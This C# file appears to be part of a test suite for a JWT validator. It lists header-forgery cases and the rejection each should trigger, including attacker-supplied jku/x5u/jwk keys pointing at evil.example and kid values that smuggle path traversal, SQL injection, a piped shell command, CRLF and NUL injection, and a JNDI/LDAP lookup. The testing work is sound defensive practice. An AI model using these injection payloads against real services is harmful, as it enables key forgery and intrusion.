using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text.Json.Nodes;

namespace CfAccess.Testing.Attacks;

/// <summary>Lines 4 and 5: a token that brings its key, points at it, or names one that is not there.</summary>
internal static class KeyHeaderAttacks
{
    private const string Evil = "https://evil.example/keys.json";

    public static IEnumerable<Attack> All => [.. OwnKeys, .. Kids, .. LongKids];

    private static IEnumerable<Attack> OwnKeys =>
    [
        .. Member("jwk", bench => bench.Attacker.Key.ToJwk()),
        .. Member("jku", _ => Evil),
        .. Member("x5u", _ => Evil),
        .. Member("x5c", bench => new JsonArray(Convert.ToBase64String(bench.Certificate().RawData))),
        .. Member("x5t", bench => Base64Url.EncodeToString(SHA1.HashData(bench.Certificate().RawData))),
        .. Member("x5t#S256", bench => Base64Url.EncodeToString(SHA256.HashData(bench.Certificate().RawData))),
        Attack.OnDraft(4, "x5t with the kid of a published key, and an unknown kid", "unsupported_header", (bench, draft) =>
            draft.Head(header =>
        {
            header["x5t"] = bench.Team.Key.Kid;
            header["kid"] = bench.UnknownKid;
        })),
        Attack.OnDraft(4, "x5t with the kid of a published key, and no kid", "unsupported_header", (bench, draft) => draft.Head(header =>
        {
            header["x5t"] = bench.Team.Key.Kid;
            header.Remove("kid");
        })),
        Attack.OnDraft(4, "jwk null", "unsupported_header", (_, draft) => draft.Head(header => header["jwk"] = null)),
        Attack.OnDraft(4, "jku with an escape in its name", "malformed", (_, draft) =>
            draft.HeadText(TokenDraft.Appending($"\"\\u006aku\":\"{Evil}\""))),
    ];

    private static IEnumerable<Attack> Kids =>
    [
        Attack.OnDraft(5, "an unknown kid, signed with its key", "unknown_key", (bench, draft) =>
            bench.Forged(draft).Head(header => header["kid"] = bench.UnknownKid)),
        Attack.OnDraft(5, "a known kid, signed with another key", "bad_signature", (bench, draft) => bench.Forged(draft)),
        Attack.OnDraft(5, "the kid of the team's other key", "bad_signature", (_, draft) =>
            draft.Head(header => header["kid"] = TestKey.Get("previous").Kid)),
        Attack.OnDraft(5, "kid missing", "malformed", (_, draft) => draft.Head(header => header.Remove("kid"))),
        Attack.OnDraft(5, "kid under another case of its name", "malformed", (_, draft) =>
            draft.HeadText(json => json.Replace("\"kid\"", "\"KID\"", StringComparison.Ordinal))),
        Attack.OnDraft(5, "kid twice, the known one first", "malformed", (bench, draft) =>
            draft.HeadText(TokenDraft.Appending($"\"kid\":\"{bench.UnknownKid}\""))),
        Attack.OnDraft(5, "kid twice, the known one last", "malformed", (bench, draft) =>
            draft.HeadText(TokenDraft.Prepending($"\"kid\":\"{bench.UnknownKid}\""))),
        Kid("empty", "\"\"", "malformed"),
        Kid("a number", "4711", "malformed"),
        Kid("a boolean", "true", "malformed"),
        Kid("null", "null", "malformed"),
        Kid("an object", "{\"kid\":\"current\"}", "malformed"),
        Kid("a list", "[\"current\"]", "malformed"),
        Kid("half of a surrogate pair", "\"key-\\ud800\"", "malformed"),
        Kid("with path traversal", "\"../../../../../../dev/null\"", "unknown_key"),
        Kid("a URL", $"\"{Evil}\"", "unknown_key"),
        Kid("with SQL", "\"x' UNION SELECT 'key' --\"", "unknown_key"),
        Kid("with a shell command", "\"key.pem|/usr/bin/id\"", "unknown_key"),
        Kid("with CR and LF", "\"first-line\\r\\nsecond-line: forged\"", "unknown_key"),
        Kid("with NUL", "\"before\\u0000behind\"", "unknown_key"),
        Kid("with a log placeholder", "\"{Reason} {0} %s ${jndi:ldap://evil.example}\"", "unknown_key"),
        Kid("__proto__", "\"__proto__\"", "unknown_key"),
        Kid("a blank", "\"      \"", "unknown_key"),
        Attack.OnDraft(5, "the known kid in another case", "unknown_key", (bench, draft) =>
            draft.Head(header => header["kid"] = bench.Team.Key.Kid.ToUpperInvariant())),
        Attack.OnDraft(5, "the known kid with a blank behind", "unknown_key", (bench, draft) =>
            draft.Head(header => header["kid"] = bench.Team.Key.Kid + " ")),
        Attack.OnDraft(5, "the known kid cut short", "unknown_key", (bench, draft) =>
            draft.Head(header => header["kid"] = bench.Team.Key.Kid[..^1])),
    ];

    private static IEnumerable<Attack> LongKids =>
    [
        LongKid("kid 64 KB long", "too_long"),
        LongKid("kid 64 KB long where tokens may be as long", "malformed") with { Setting = AttackSetting.LongTokens },
        Attack.OnDraft(5, "kid 1,000 characters long", "unknown_key", (_, draft) =>
            draft.Head(header => header["kid"] = new string('k', 1000))),
    ];

    /// <summary>Each where an attacker has only it to offer, and where all else is as good as can be.</summary>
    private static IEnumerable<Attack> Member(string name, Func<AttackBench, JsonNode> value) =>
    [
        Attack.OnDraft(4, $"{name} with an unknown kid, signed with the key it offers", "unsupported_header", (bench, draft) =>
            bench.Forged(draft).Head(header =>
        {
            header["kid"] = bench.UnknownKid;
            header[name] = value(bench);
        })),
        Attack.OnDraft(4, $"{name} without a kid, signed with the key it offers", "unsupported_header", (bench, draft) =>
            bench.Forged(draft).Head(header =>
        {
            header.Remove("kid");
            header[name] = value(bench);
        })),
        Attack.OnDraft(4, $"{name} with the known kid, signed with the team's key", "unsupported_header", (bench, draft) =>
            draft.Head(header => header[name] = value(bench))),
    ];

    private static Attack Kid(string what, string json, string reason) => Attack.OnDraft(
        5, $"kid {what}", reason, (_, draft) => draft.HeadText(TokenDraft.Replacing("kid", json)));

    private static Attack LongKid(string name, string reason) => Attack.OnDraft(
        5, name, reason, (_, draft) => draft.Head(header => header["kid"] = new string('k', 64 * 1024)));
}
